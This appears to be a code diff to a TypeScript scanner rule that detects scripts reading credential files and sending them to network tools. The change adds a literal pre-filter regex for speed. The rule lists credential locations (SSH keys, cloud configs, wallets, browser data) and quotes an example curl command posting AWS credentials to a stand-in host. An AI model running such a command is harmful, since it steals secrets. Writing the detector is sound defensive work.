@@ -14,6 +14,8 @@ const SOURCE_GLOBAL_RE = new RegExp(CREDENTIAL_SOURCE, 'gi');
 const SAME_LINE = [SOURCE_RE];
 /** Every credential-source match contains one of these (lower-case) substrings. */
 const SOURCE_TRIGGERS = ['.ssh', '.aws', '.gnupg', '.netrc', '.git-credentials', '.docker', '.kube', '.npmrc', '.pypirc', 'gcloud', '.azure', 'history', '.env', 'id_rsa', 'id_dsa', 'id_ecdsa', 'id_ed25519', 'authorized_keys', 'known_hosts', '/etc/', 'login data', 'cookies', 'keychain', 'wallet', 'env'];
+/** Any source trigger (literals only: linear): a script line without one is not tried against SOURCE_RE. */
+const SOURCE_LITERAL_RE = new RegExp(SOURCE_TRIGGERS.map((t) => t.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&')).join('|'), 'i');
 
 /** Import/require lines name a library; they are not a network call. */
 const IMPORT_LINE = /^\s*(?:import\s|from\s+\S+\s+import\s|(?:const|let|var)\s+[\w{},][\w{}\s,]*=\s*require\(|#|\/\/|\*)/;
@@ -56,7 +58,7 @@ function scanScript(lines: readonly string[]): { sources: number[]; sinks: numbe
   for (let i = 0; i < lines.length; i++) {
     const l = withoutNonReads(lines, i);
     if (l.length === 0 || IMPORT_LINE.test(l)) continue;
-    if (SOURCE_RE.test(l) || HARVEST_RE.test(l)) sources.push(i + 1);
+    if ((SOURCE_LITERAL_RE.test(l) && SOURCE_RE.test(l)) || HARVEST_RE.test(l)) sources.push(i + 1);
     else for (const m of l.matchAll(NAMED_ENV_READ_RE)) if (isCredentialName(m[1])) named.push({ line: i + 1, name: m[1] });
     if (SINK_RE.test(l) && !/^\s*(?:except|catch)\b/.test(l)) sinks.push(i + 1);
     urls.push(...urlsIn(l));
@@ -190,7 +192,9 @@ export const exCredentialToNetworkRule: Rule = {
       'Reading SSH keys, cloud credentials, .env files, shell history or the whole environment and passing them to curl/wget/nc/HTTP clients is credential theft, whatever the stated purpose. The rule looks for the read and the sink in one command, or within a short window in a script.',
     example: 'curl -s -X POST https://collect.example/u -d "$(cat ~/.aws/credentials)"',
   },
-  regexes: [SOURCE_RE, SINK_RE, SOURCE_GLOBAL_RE, NAMED_ENV_READ_RE, IMPORT_LINE, HARVEST_RE, SECRET_VAR_RE, BODY_SEND_RE, SENTENCE_END_RE, TABLE_CELL_OR_SENTENCE_RE, ENV_ONLY_SOURCE_RE, ESCAPED_NEWLINE_RE, ESCAPED_NEWLINE_GLOBAL_RE],
+  regexes: [SOURCE_RE, SOURCE_LITERAL_RE, SINK_RE, SOURCE_GLOBAL_RE, NAMED_ENV_READ_RE, IMPORT_LINE, HARVEST_RE, SECRET_VAR_RE, BODY_SEND_RE, SENTENCE_END_RE, TABLE_CELL_OR_SENTENCE_RE, ENV_ONLY_SOURCE_RE, ESCAPED_NEWLINE_RE, ESCAPED_NEWLINE_GLOBAL_RE],
+  // The source triggers gate SAME_LINE here and every script line in scanScript; trigger-soundness.spec.ts checks them.
+  triggered: { triggers: SOURCE_TRIGGERS, patterns: SAME_LINE },
   match(ctx) {
     const hits: RuleHit[] = [];
     const seen = new Set<number>();
